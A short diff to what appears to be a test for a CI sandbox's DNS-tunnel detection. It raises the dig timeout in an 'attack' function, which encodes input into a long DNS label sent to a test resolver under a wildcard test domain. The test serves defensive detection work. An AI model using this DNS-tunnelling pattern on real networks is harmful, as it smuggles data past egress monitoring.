@@ -3,4 +3,4 @@
 title='A random 58-character label under a wildcard' origin='RESEARCH §6, cijail'
 sink=s reason=tunnel_suspected forms='output forward run'
 extra=(short.test$'\n    dns: { budget: { label_bytes: 40 } }')
-attack() { client dig +tries=1 +timeout=1 @198.18.2.53 "$(printf '%-58s' "$1" | tr ' ' q).wild.test"; }
+attack() { client dig +tries=1 +timeout=10 @198.18.2.53 "$(printf '%-58s' "$1" | tr ' ' q).wild.test"; }
